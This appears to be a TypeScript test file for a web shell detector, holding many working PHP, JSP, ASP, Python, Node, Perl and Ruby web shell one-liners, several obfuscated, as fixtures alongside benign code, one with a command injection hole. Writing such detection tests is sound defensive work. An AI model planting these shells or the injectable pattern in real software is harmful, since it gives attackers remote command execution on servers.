import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { SourceLanguage } from './recognition.ts';
import { recognizeProgram } from './recognize-program.ts';

function weightOf(text: string, language: SourceLanguage): string | undefined {
  return recognizeProgram(text, language).find(({ rule }) => rule === 'malware/web-shell')?.weight;
}

const base64 = (text: string): string => Buffer.from(text).toString('base64');

const certain: readonly (readonly [string, SourceLanguage, string])[] = [
  ['eval of a field', 'php', `<?php @eval($_POST['x']);?>`],
  ['eval of what is decoded', 'php', `<?php eval(base64_decode($_REQUEST["c"])); ?>`],
  ['eval of a header', 'php', `<?php eval(gzinflate(base64_decode($_SERVER['HTTP_X_CODE'])));`],
  ['assert', 'php', `<?php assert($_COOKIE['a']);`],
  ['system', 'php', `<?php system($_GET['cmd']); ?>`],
  ['system with errors', 'php', `<pre><?php system($_REQUEST['cmd'] . ' 2>&1'); ?></pre>`],
  [
    'passthru of a variable',
    'php',
    `<?php if(isset($_REQUEST['cmd'])){ echo "<pre>"; $cmd = ($_REQUEST['cmd']); system($cmd); echo "</pre>"; die; }?>`,
  ],
  ['backticks', 'php', '<?php echo `$_GET[0]`; ?>'],
  ['backticks of a variable', 'php', '<?=$c=$_GET["c"];echo `$c`;'],
  ['function of a request', 'php', `<?php $_GET['f']($_POST['c']);`],
  ['callback', 'php', `<?php array_map("assert",(array)$_POST['pass']);`],
  ['call_user_func', 'php', `<?php call_user_func($_GET['a'], $_GET['b']);`],
  ['preg_replace', 'php', `<?php preg_replace('/.*/e', $_POST['code'], '');`],
  ['create_function', 'php', `<?php $f = create_function('', $_POST['x']); $f();`],
  ['name in pieces', 'php', `<?php $a = 'ass' . 'ert'; $a($_POST['x']);`],
  ['name in escapes', 'php', `<?php $a="\\x73\\x79\\x73\\x74\\x65\\x6d"; $a($_GET['c']);`],
  ['name of characters', 'php', `<?php $f=chr(97).chr(115).chr(115).chr(101).chr(114).chr(116);@$f($_POST[1]);`],
  ['name reversed', 'php', `<?php $f = strrev('metsys'); $f($_GET['x']);`],
  ['name with dirt', 'php', `<?php $f = str_replace('q','','qsyqsqtqem'); $f($_REQUEST['x']);`],
  ['name decoded', 'php', `<?php $f = base64_decode('c3lzdGVt'); $f($_GET['x']);`],
  [
    'symbols only',
    'php',
    `<?php $_=[];$_=@"$_";$_=$_['!'=='@'];$___=$_;$__=$_;$__++;$___.=$__;$____='_';$____.=$__;$_=$$____;$___($_[_]); $__($_[__]); $___($_[_]);`,
  ],
  ['input stream', 'php', `<?php eval(file_get_contents('php://input'));`],
  [
    'exec of a parameter',
    'java',
    `<%@ page import="java.io.*" %><% Process p = Runtime.getRuntime().exec(request.getParameter("cmd")); %>`,
  ],
  ['eval', 'asp', `<%eval request("pass")%>`],
  ['execute', 'asp', `<%ExecuteGlobal(Request.Form("x"))%>`],
  ['JScript', 'asp', `<%@ Page Language="Jscript"%><%eval(Request.Item["z"],"unsafe");%>`],
  ['Process.Start', 'asp', `<% System.Diagnostics.Process.Start("cmd.exe", "/c " + Request.QueryString["c"]); %>`],
];
for (const [name, language, text] of certain) {
  test(`${language}: ${name} is a web shell`, () => assert.equal(weightOf(text, language), 'certain'));
}

const strong: readonly (readonly [string, SourceLanguage, string])[] = [
  [
    'weevely',
    'php',
    `<?php $u='$k="5f4d";$kh="cc3b";function x($t,$k){}';$W=str_replace('Xg','','crXgeate_XgfuXgnXgctXgion');$h=$W('',$u);$h();?>`,
  ],
  [
    'parameter by a variable',
    'java',
    `<% String cmd = request.getParameter("cmd"); String[] a = {"/bin/sh", "-c", cmd}; Process p = Runtime.getRuntime().exec(a); %>`.replace(
      'exec(a)',
      'exec(new String[]{"/bin/sh","-c",cmd})',
    ),
  ],
  [
    'classes of a request',
    'java',
    `<%! class U extends ClassLoader{ Class g(byte[] b){ return super.defineClass(b,0,b.length); } } %><% if (request.getMethod().equals("POST")) { Cipher c = Cipher.getInstance("AES"); new U().g(c.doFinal(Base64.decode(request.getReader().readLine()))); } %>`,
  ],
  ['flask', 'python', `@app.route("/x")\ndef x():\n    return os.popen(request.args.get("c")).read()\n`],
  [
    'express',
    'node',
    `const { exec } = require('child_process'); app.get('/x', (req, res) => exec(req.query.c, (e, o) => res.send(o)));`,
  ],
  [
    'CGI',
    'perl',
    `#!/usr/bin/perl\nuse CGI; my $q = CGI->new; print $q->header; print \`\${\\ $q->param('c')}\`; system($q->param('c'));`,
  ],
  ['sinatra', 'ruby', `get('/x') { system(params[:c]) }`],
  [
    'tunnel',
    'php',
    `<?php $h = getallheaders(); if ($h['X-CMD']=='CONNECT') { $t=$h['X-TARGET']; $p=$h['X-PORT']; header('X-STATUS: OK'); } exit("Georg says, 'All seems fine'");`,
  ],
];
for (const [name, language, text] of strong) {
  test(`${language}: ${name} looks like a web shell`, () => assert.equal(weightOf(text, language), 'strong'));
}

test('a web shell inside an encoded text is found', () => {
  const inner = base64(`if(isset($_POST['c'])){eval($_POST['c']);}`);
  const outer = `<?php eval(base64_decode('${base64(`eval(base64_decode("${inner}"));`)}')); ?>`;
  const found = recognizeProgram(outer, 'php').map(({ rule, weight }) => `${weight} ${rule}`);
  assert.deepEqual(found.sort(), ['certain malware/web-shell', 'strong malware/encoded-program']);
});

const honest: readonly (readonly [string, SourceLanguage, string])[] = [
  [
    'command injection by mistake',
    'php',
    `<?php $target = $_REQUEST['ip']; $cmd = shell_exec('ping -c 4 ' . $target); echo $cmd;`,
  ],
  ['escaped arguments', 'php', `<?php system('convert ' . escapeshellarg($_GET['file']));`],
  ['template engine', 'php', `<?php $content = $this->compile($name); eval('?>' . $content); $x = $_GET['page'];`],
  [
    'own function',
    'php',
    `<?php $callback = 'sanitize_text_field'; $v = $callback($_POST['title']); $this->exec($_GET['q']); $pdo->exec($_GET['q']);`,
  ],
  ['assertions', 'php', `<?php assert(is_string($_GET['q'])); assert($value instanceof Foo);`],
  ['query', 'php', `<?php $stmt = $db->query("SELECT 1"); $q = $_POST['q']; $db->exec($q); Foo::system($q);`],
  [
    'preg_replace',
    'php',
    `<?php $s = preg_replace('/[^a-z]/', '', $_GET['s']); $t = preg_replace("/e/", "x", $_POST['t']);`,
  ],
  ['servlet', 'java', `String name = request.getParameter("name"); out.println(name); Executor.exec(task);`],
  ['express', 'node', `app.get('/', (req, res) => { const m = /x/.exec(req.query.q); res.send(m); });`],
  [
    'django',
    'python',
    `def view(request):\n    q = request.GET.get("q")\n    return subprocess.run(["git", "log"], check=True)\n`,
  ],
];
for (const [name, language, text] of honest) {
  test(`${language}: ${name} is no web shell`, () => assert.equal(weightOf(text, language), undefined));
}
